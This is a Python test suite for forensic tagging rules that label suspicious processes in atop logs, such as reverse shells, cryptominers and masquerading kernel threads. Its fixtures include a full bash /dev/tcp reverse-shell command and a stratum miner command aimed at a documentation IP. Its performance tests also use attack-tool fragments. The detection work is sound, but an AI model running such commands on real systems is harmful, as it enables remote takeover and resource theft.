#!/usr/bin/env python3
"""Tests for the tagging rules."""

import os
import re
import tempfile
import time
import unittest

from plaso.cli.helpers import tagging_analysis
from plaso.analysis import tagging
from plaso.containers import events
from plaso.engine import tagging_file
from plaso.lib import errors

from plaso_atop import integration
from plaso_atop import parser
from plaso_atop.integration import hooks
from plaso_atop.plugins import process

import log_builder

from tests.lib import end_to_end
from tests.lib import tagging_test_lib
from tests.lib import test_lib

CASES = tagging_test_lib.ReadCases()


class TaggingTestCase(test_lib.ParserTestCase):
    """The tagging test case."""

    _PATH = os.path.join(test_lib.DATA_PATH, "tag_atop.txt")

    def _GetRules(self, path):
        """Retrieves tagging rules.

        Args:
          path (str): path of a tagging file.

        Returns:
          dict[str, list[EventObjectFilter]]: filters per label.
        """
        return tagging_file.TaggingFile(path).GetEventTaggingRules()

    def _GetLabels(self, rules, event_data):
        """Determines the labels of an event.

        Args:
          rules (dict[str, list[EventObjectFilter]]): filters per label.
          event_data (EventData): event data.

        Returns:
          list[str]: labels.
        """
        event = events.EventObject()
        event.timestamp = 1795225000000000
        event.timestamp_desc = "Start Time"
        return [
            label
            for label, filter_objects in rules.items()
            if any(
                filter_object.Match(event, event_data, None, None)
                for filter_object in filter_objects
            )
        ]

    def _ReadLines(self):
        """Reads the rules one by one.

        Returns:
          dict[str, list[str]]: rules per label.
        """
        lines_per_label = {}
        with open(self._PATH, "r", encoding="utf-8") as file_object:
            for line in file_object:
                if line.strip() and not line.strip().startswith("#"):
                    if line.startswith(" "):
                        lines_per_label[label].append(line.strip())
                    else:
                        label = line.strip()
                        # Of a label that is given twice Plaso keeps the last.
                        self.assertNotIn(label, lines_per_label)
                        lines_per_label[label] = []

        return lines_per_label

    def _WriteFile(self, text, name="tag.txt"):
        """Writes a tagging file in a directory that is removed after the test.

        Args:
          text (str): contents of the file.
          name (Optional[str]): name of the file.

        Returns:
          str: path of the file.
        """
        # pylint: disable=consider-using-with
        temporary_directory = tempfile.TemporaryDirectory()
        self.addCleanup(temporary_directory.cleanup)

        path = os.path.join(temporary_directory.name, name)
        with open(path, "w", encoding="utf-8") as file_object:
            file_object.write(text)

        return path


class RulesTest(TaggingTestCase):
    """Tests of the rules."""

    def testRules(self):
        """Tests every rule by itself on what it must match and what it must not."""
        lines_per_label = self._ReadLines()
        self.assertEqual(list(CASES), list(lines_per_label))

        all_rules = self._GetRules(self._PATH)
        for label, lines in lines_per_label.items():
            self.assertEqual(len(CASES[label]), len(lines), label)
            for line, (hits, misses) in zip(lines, CASES[label]):
                with self.subTest(label=label, line=line):
                    rules = self._GetRules(self._WriteFile(f"{label:s}\n  {line:s}\n"))
                    self.assertTrue(hits and misses)
                    for event_data in hits:
                        values = vars(event_data)
                        self.assertEqual(
                            self._GetLabels(rules, event_data), [label], values
                        )
                        self.assertIn(label, self._GetLabels(all_rules, event_data))
                    for event_data in misses:
                        self.assertEqual(
                            self._GetLabels(rules, event_data), [], vars(event_data)
                        )

    def testOrdinary(self):
        """Tests that no rule but that of every process matches ordinary work."""
        rules = self._GetRules(self._PATH)
        for event_data in tagging_test_lib.ReadOrdinary():
            labels = set(self._GetLabels(rules, event_data))
            self.assertLessEqual(labels, {"application_execution"}, vars(event_data))

    def testOtherEvents(self):
        """Tests that no rule matches what is no process, whatever its attributes."""
        rules = self._GetRules(self._PATH)
        for cases in CASES.values():
            for hits, _ in cases:
                for event_data in hits:
                    for data_type in ("linux:atop:process_activity", "bash:history"):
                        other_event_data = events.EventData(data_type=data_type)
                        other_event_data.CopyFromDict(event_data.CopyToDict())
                        other_event_data.data_type = data_type
                        self.assertEqual(self._GetLabels(rules, other_event_data), [])

    def testNoValues(self):
        """Tests that a value that is missing does not match, whatever the others."""
        rules = self._GetRules(self._PATH)
        self.assertEqual(
            self._GetLabels(rules, process.AtopProcessEventData()),
            ["application_execution"],
        )
        self.assertEqual(
            self._GetLabels(rules, process.AtopProcessChangeEventData()), []
        )

    def testHostileValues(self):
        """Tests that no value makes the rules slow."""
        rules = self._GetRules(self._PATH)
        for text in (
            "curl " * 300,
            "curl |" * 250,
            "curl " + "|" * 1500,
            "curl |" + "a/" * 700,
            "sh " + "-a " * 500,
            "bash -i " + "/dev/tcp/" * 160,
            "nc " * 500,
            "nc " + "-e " * 500,
            "ssh " + "-D " * 500,
            "ssh -" + "D" * 1500,
            "/" * 1530,
            " " * 1530,
            "rm " * 500,
            "sed " + "-i" * 750,
            "sh -c echo" + " " * 1500,
            "base64 -d" * 170,
            "base64 -" + "d" * 1500,
            "eval <<<" * 190,
            "LD_PRELOAD=" * 139,
            "LD_PRELOAD=" + "/" * 1500,
            "find " + "/var/log" * 190,
            "python -" + "socket" * 250,
            "curl -o" * 200,
            "curl " + "-o /tmp" * 200,
            "curl " + ">" * 1500,
            "wget " + "-O -" * 350,
            "cd /tmp" * 200,
            "cd /tmp; curl " + "-" * 1500,
            "cd /tmp; wget " * 100,
            "a -o a.a:1 " + "-" * 1500,
            "a -o " + "a." * 700,
            "bash" + " -i" * 500 + " x",
            "postgres: " + "[local" * 200,
            "nginx[1] > " * 130,
            " > " * 500,
        ):
            start_time = time.process_time()
            self._GetLabels(
                rules,
                tagging_test_lib.CreateEventData(
                    text,
                    "sh",
                    ancestors=text[:512],
                    exit_signal=11,
                    last_process_name="sh",
                    parent_command_line=text,
                    parent_process_name="sh",
                    systemd_unit=text[:255],
                    username="tomcat",
                ),
            )
            self.assertLess(time.process_time() - start_time, 0.5, text[:20])


class CorpusTest(TaggingTestCase):
    """Tests of what the rules tag in real logs."""

    def testLogs(self):
        """Tests that ordinary processes are tagged as executed and nothing else."""
        rules = self._GetRules(self._PATH)
        for log in test_lib.LOGS:
            with self.subTest(log=log.name):
                storage_writer = self._ParseFile(
                    [f"{log.name:s}.raw"], parser.AtopParser()
                )
                number_of_processes = 0
                number_of_executions = 0
                for event_data in self._GetEventData(storage_writer):
                    labels = self._GetLabels(rules, event_data)

                    is_change = event_data.data_type == "linux:atop:process_change"
                    is_process = event_data.data_type == "linux:atop:process"
                    if not is_change and not is_process:
                        self.assertEqual(labels, [])
                        continue

                    # One of the processes pretends to be a thread of the kernel.
                    if (event_data.command_line or "").startswith("[kworker/u8:3-"):
                        self.assertIn("kernel_thread_masquerading", labels)
                        labels.remove("kernel_thread_masquerading")

                    self.assertLessEqual(set(labels), {"application_execution"})
                    if is_process:
                        is_kernel_thread = 2 in (event_data.pid, event_data.ppid)
                        number_of_processes += not is_kernel_thread
                        number_of_executions += bool(labels)
                        if is_kernel_thread:
                            self.assertEqual(labels, [])

                self.assertEqual(number_of_executions, number_of_processes)
                if log.name != "atop-2.8.1-kernel-threads":
                    self.assertGreater(number_of_executions, 10)


class DocumentationTest(TaggingTestCase):
    """Tests of what docs/investigating.md says."""

    def testLabels(self):
        """Tests that the document names all labels."""
        path = os.path.join(test_lib.PROJECT_PATH, "docs", "investigating.md")
        with open(path, "r", encoding="utf-8") as file_object:
            _, _, text = file_object.read().partition("\n## Tags\n")

        labels = re.findall(r"^\| `(\w+)` \|", text.partition("\n## ")[0], re.MULTILINE)
        self.assertEqual(labels, list(CASES))


class MergeTest(TaggingTestCase):
    """Tests of the extensions of Plaso."""

    def testTagLinux(self):
        """Tests that a label of both files has the rules of both."""
        path = self._WriteFile(
            "application_execution\n  reporter is 'sudo'\n\nlogin\n  pid > 0\n",
            name="tag_linux.txt",
        )
        rules = self._GetRules(path)
        self.assertEqual(list(rules)[:2], ["application_execution", "login"])
        self.assertLessEqual(set(CASES), set(rules))

        other_event_data = events.EventData(data_type="syslog:line")
        other_event_data.reporter = "sudo"
        self.assertEqual(
            self._GetLabels(rules, other_event_data), ["application_execution"]
        )
        self.assertIn(
            "application_execution",
            self._GetLabels(rules, tagging_test_lib.CreateEventData("ls", pid=7)),
        )
        self.assertNotIn(hooks.TAGGING, hooks.problems)

    def testOtherFile(self):
        """Tests that other files stay as they are."""
        for name in ("tag_windows.txt", "my_tag_linux.txt"):
            path = self._WriteFile("login\n  pid > 0\n", name=name)
            self.assertEqual(list(self._GetRules(path)), ["login"])

    def _ParseOptions(self, tagging_file_name, data_location):
        """Parses the options of the analysis plugin.

        Args:
          tagging_file_name (str): tagging file as given by the user.
          data_location (str): data location.

        Returns:
          list[str]: labels of the rules that the plugin has.
        """
        options = type("Options", (), {})()
        options.data_location = data_location
        options.tagging_file = tagging_file_name

        analysis_plugin = tagging.TaggingAnalysisPlugin()
        tagging_analysis.TaggingAnalysisArgumentsHelper.ParseOptions(
            options, analysis_plugin
        )
        return list(analysis_plugin._tagging_rules)  # pylint: disable=protected-access

    def testName(self):
        """Tests that our file is found by its name, and another of that name first."""
        path = self._WriteFile("mine\n  pid > 0\n", name="tag_atop.txt")
        directory = os.path.dirname(path)
        for data_location in (None, "/nonexistent", test_lib.TEST_DATA_PATH):
            self.assertEqual(
                self._ParseOptions("tag_atop.txt", data_location), list(CASES)
            )
        self.assertEqual(self._ParseOptions("tag_atop.txt", directory), ["mine"])
        self.assertEqual(self._ParseOptions(path, None), ["mine"])

        for name in ("tag_none.txt", "/nonexistent/tag_atop.txt", "", None):
            with self.assertRaises(errors.BadConfigOption):
                self._ParseOptions(name, directory)


class PsortTest(end_to_end.ToolsTestCase):
    """Tests of psort."""

    @classmethod
    def setUpClass(cls):
        """Makes a log and extracts its events."""
        super().setUpClass()
        builder = log_builder.LogBuilder("2.12")
        tasks = [
            {
                "gen.pid": 4000 + index,
                "gen.tgid": 4000 + index,
                "gen.isproc": 1,
                "gen.ppid": 1,
                "gen.btime": 1795225000,
                "gen.state": b"S",
                "gen.name": name,
                "gen.cmdline": command_line,
            }
            for index, (name, command_line) in enumerate(
                (
                    (b"sshd", b"/usr/sbin/sshd -D"),
                    (b"bash", b"bash -i >& /dev/tcp/192.0.2.66/443 0>&1"),
                    (b"kworker/0:0", b"/tmp/.x/a -o stratum+tcp://192.0.2.66:3333"),
                    (b"apache2", b"/usr/sbin/apache2 -k start"),
                    (b"a", b"./a"),
                )
            )
        ]
        builder.AddSample(1795226000, tasks=tasks)
        tasks[-1]["cpu.utime"] = 350000
        # It exits within the second of its start.
        tasks.append(
            {
                **tasks[-2],
                "gen.btime": 1795226100,
                "gen.cmdline": b"",
                "gen.elaps": 5,
                "gen.excode": log_builder.IS_NEW | 11,
                "gen.name": b"crash",
                "gen.pid": 4100,
                "gen.ppid": 4003,
                "gen.state": b"E",
                "gen.tgid": 4100,
            }
        )
        builder.AddSample(1795229600, interval=3600, tasks=tasks)
        source = cls._GetPath("source")
        os.makedirs(source)
        with open(os.path.join(source, "atop_20261121"), "wb") as file_object:
            file_object.write(builder.Build())
        with open(os.path.join(source, "auth.log"), "wb") as file_object:
            file_object.write(
                b"2026-11-21T01:38:20.000000+00:00 host sudo: alice : COMMAND=/bin/ls\n"
                * 3
            )
        cls._source_path = source

    def _GetTags(self, name, *arguments):
        """Tags the events.

        Args:
          name (str): name of the storage file.
          arguments (list[str]): arguments of psort.

        Returns:
          dict[str, set[str]]: labels per command line, or program of a log line or of
              a process without.
        """
        storage_path = self._Extract(self._source_path, name, "--parsers", "linux")
        labels = {}
        for event in self._ReadEvents(
            storage_path, "--analysis", "tagging", *arguments
        ):
            if event.get("process_name") == "crash":
                self.assertEqual(event["timestamp_desc"], "Start Time")
            for key in ("command_line", "reporter", "process_name"):
                if key in event:
                    labels[event[key]] = set(event.get("tag", {}).get("labels", []))
                    break
        return labels

    _EXPECTED_LABELS = {
        "/usr/sbin/sshd -D": {"application_execution"},
        "bash -i >& /dev/tcp/192.0.2.66/443 0>&1": {
            "application_execution",
            "reverse_shell",
        },
        "/tmp/.x/a -o stratum+tcp://192.0.2.66:3333": {
            "application_execution",
            "cryptominer",
            "kernel_thread_masquerading",
            "temporary_directory_execution",
        },
        "./a": {"application_execution", "sustained_cpu_usage"},
        "/usr/sbin/apache2 -k start": {"application_execution"},
        "crash": {"application_execution", "server_program_crash"},
    }

    def testTagAtop(self):
        """Tests that psort finds our file by its name."""
        labels = self._GetTags("atop.plaso", "--tagging-file", "tag_atop.txt")
        self.assertEqual(labels, {**self._EXPECTED_LABELS, "sudo": set()})

    def testTagLinux(self):
        """Tests that psort has our rules besides those of Plaso."""
        labels = self._GetTags("linux.plaso", "--tagging-file", "tag_linux.txt")
        self.assertEqual(
            labels, {**self._EXPECTED_LABELS, "sudo": {"application_execution"}}
        )


# Where the tests run without the package being installed.
integration.Install()

if __name__ == "__main__":
    unittest.main()
